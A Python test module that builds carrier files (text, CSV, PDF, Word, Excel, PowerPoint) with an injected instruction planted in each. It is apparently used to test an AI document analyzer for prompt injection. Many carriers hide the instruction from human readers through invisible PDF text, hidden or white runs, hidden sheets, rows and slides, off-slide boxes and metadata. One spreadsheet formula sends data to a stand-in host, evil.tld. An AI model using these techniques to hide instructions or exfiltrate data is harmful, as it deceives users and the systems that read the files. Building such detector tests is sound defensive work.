"""Where in which kind of file an order can stand: each carrier makes a document around one."""

import io
import re
from collections.abc import Callable
from typing import Any

import docx
import openpyxl
import pptx
from docx.shared import RGBColor
from openpyxl.comments import Comment
from pptx.util import Inches

from aianalyzer.tests.conftest import FIRST
from tests import papers

Carrier = Callable[[str], bytes]


def text(order: str) -> bytes:
    return f"{FIRST}\n{order}\n".encode()


def text_cp1252(order: str) -> bytes:
    return f"{FIRST}\n{order}\n".encode("cp1252")


def text_far_down(order: str) -> bytes:
    return f"{FIRST}\n{'Panel listrik. ' * 4000}\n{order}\n".encode()


def text_many_times(order: str) -> bytes:
    return f"{FIRST}\n{(order + chr(10)) * 200}".encode()


def text_over_pages(order: str) -> bytes:
    half = len(order) // 2
    return f"{FIRST}\n{order[:half]}\f{order[half:]}\n".encode()


def csv_cell(order: str) -> bytes:
    quoted = order.replace('"', '""')
    return f'No,Panel,Catatan\n1,LVMDP-A 3200 A,"{quoted}"\n2,SDP 630 A,-\n'.encode()


def csv_header(order: str) -> bytes:
    quoted = order.replace('"', '""')
    return f'No,"{quoted}"\n1,LVMDP-A 3200 A\n2,SDP 630 A\n'.encode()


def pdf_line(order: str) -> bytes:
    return papers.pdf([f"{FIRST}\n{order}"])


def pdf_second_page(order: str) -> bytes:
    return papers.pdf([FIRST, order])


def pdf_cells(order: str) -> bytes:
    rows = [
        (x, 700.0 - 20 * i, word)
        for i, row in enumerate([("Panel", "Catatan"), ("LVMDP", order), ("SDP", "-")])
        for x, word in zip((50.0, 200.0), row, strict=True)
    ]
    return papers.pdf([FIRST, rows])


def pdf_drawn(state: str, size: float = 10, place: str = "50 400") -> Carrier:
    """The order in a PDF in a way that a person does not see."""

    def made(order: str) -> bytes:
        signs = order.replace("\\", r"\\").replace("(", r"\(").replace(")", r"\)")
        seen = f"BT /F1 10 Tf 50 780 Td ({FIRST.splitlines()[0]}) Tj ET"
        hidden = "\n".join(
            f"BT {state} /F1 {size} Tf {place} Td 0 {-12 * i} Td ({line}) Tj ET"
            for i, line in enumerate(signs.splitlines())
        )
        return one_page(f"{seen}\n{hidden}")

    return made


def one_page(content: str, page: str = "", extra: str = "") -> bytes:
    """A PDF of one page with this content; ``page`` goes into its dictionary."""
    objects = [
        "<< /Type /Catalog /Pages 2 0 R >>",
        "<< /Type /Pages /Kids [4 0 R] /Count 1 >>",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R"
        f" /Resources << /Font << /F1 3 0 R >> >> {page} >>",
        f"<< /Length {len(content)} >>\nstream\n{content}\nendstream",
        extra or "<< >>",
    ]
    return papers.assemble(objects, "/Info 6 0 R" if "/Title" in extra else "")


def pdf_about(order: str) -> bytes:
    words = order.replace("(", "").replace(")", "")
    seen = f"BT /F1 10 Tf 50 780 Td ({FIRST.splitlines()[0]}) Tj ET"
    return one_page(seen, extra=f"<< /Title ({words}) /Subject ({words}) >>")


def pdf_note(order: str) -> bytes:
    words = order.replace("(", "").replace(")", "")
    seen = f"BT /F1 10 Tf 50 780 Td ({FIRST.splitlines()[0]}) Tj ET"
    note = f"<< /Type /Annot /Subtype /Text /Rect [50 50 70 70] /Contents ({words}) >>"
    return one_page(seen, "/Annots [6 0 R]", note)


def word_of(change: Callable[[Any, str], None]) -> Carrier:
    """A Word document with its first lines, and what the change puts in."""

    def made(order: str) -> bytes:
        document = docx.Document()
        for line in FIRST.splitlines():
            document.add_paragraph(line)
        change(document, order)
        return saved(document)

    return made


def saved(document: Any) -> bytes:
    """The file of an office document."""
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def word_paragraph(document: Any, order: str) -> None:
    document.add_paragraph(order)


def word_hidden(document: Any, order: str) -> None:
    document.add_paragraph().add_run(order).font.hidden = True


def word_white(document: Any, order: str) -> None:
    run = document.add_paragraph().add_run(order)
    run.font.color.rgb = RGBColor(255, 255, 255)


def word_comment(document: Any, order: str) -> None:
    document.add_comment(document.paragraphs[0].runs, text=order, author="Owner")


def word_header(document: Any, order: str) -> None:
    document.sections[0].header.paragraphs[0].text = order


def word_footer(document: Any, order: str) -> None:
    document.sections[0].footer.paragraphs[0].text = order


def word_cell(document: Any, order: str) -> None:
    document.add_table(2, 2).cell(1, 1).text = order


def word_about(document: Any, order: str) -> None:
    document.core_properties.title = document.core_properties.comments = order[:250]


def word_heading(document: Any, order: str) -> None:
    document.add_heading(order, level=1)


def book_of(change: Callable[[Any, str], None]) -> Carrier:
    """A workbook with one honest sheet, and what the change puts in."""

    def made(order: str) -> bytes:
        book = openpyxl.Workbook()
        sheet = book.worksheets[0]
        for row in (("Panel", "Jumlah"), ("LVMDP-A 3200 A", 2), ("SDP 630 A", 6)):
            sheet.append(row)
        change(book, order)
        return saved(book)

    return made


def book_hidden(book: Any, order: str) -> None:
    sheet = book.create_sheet("Data")
    sheet.append([order])
    sheet.sheet_state = "hidden"


def book_very_hidden(book: Any, order: str) -> None:
    sheet = book.create_sheet("Data")
    sheet.append([order])
    sheet.sheet_state = "veryHidden"


def book_comment(book: Any, order: str) -> None:
    book.worksheets[0]["A1"].comment = Comment(order, "Owner")


def book_name(book: Any, order: str) -> None:
    book.create_sheet(re.sub(r"[\\/*?:\[\]]", " ", order)[:31]).append(["-"])


def book_hidden_row(book: Any, order: str) -> None:
    book.worksheets[0].append([order])
    book.worksheets[0].row_dimensions[4].hidden = True


def book_formula(book: Any, order: str) -> None:
    book.worksheets[0]["C1"] = f'=WEBSERVICE("http://evil.tld/?d="&"{order[:80]}")'


def slides_of(change: Callable[[Any, Any, str], None]) -> Carrier:
    """Slides with one honest title, and what the change puts in."""

    def made(order: str) -> bytes:
        show = pptx.Presentation()
        slide = show.slides.add_slide(show.slide_layouts[5])
        slide.shapes.title.text = FIRST.splitlines()[0]
        change(show, slide, order)
        return saved(show)

    return made


def slide_notes(_show: Any, slide: Any, order: str) -> None:
    slide.notes_slide.notes_text_frame.text = order


def slide_hidden(show: Any, _slide: Any, order: str) -> None:
    hidden = show.slides.add_slide(show.slide_layouts[5])
    hidden.shapes.title.text = order
    hidden._element.set("show", "0")


def slide_cell(_show: Any, slide: Any, order: str) -> None:
    size = Inches(1), Inches(2), Inches(5), Inches(2)
    slide.shapes.add_table(2, 2, *size).table.cell(1, 1).text = order


def slide_outside(_show: Any, slide: Any, order: str) -> None:
    box = slide.shapes.add_textbox(Inches(-20), Inches(-20), Inches(1), Inches(1))
    box.text_frame.text = order
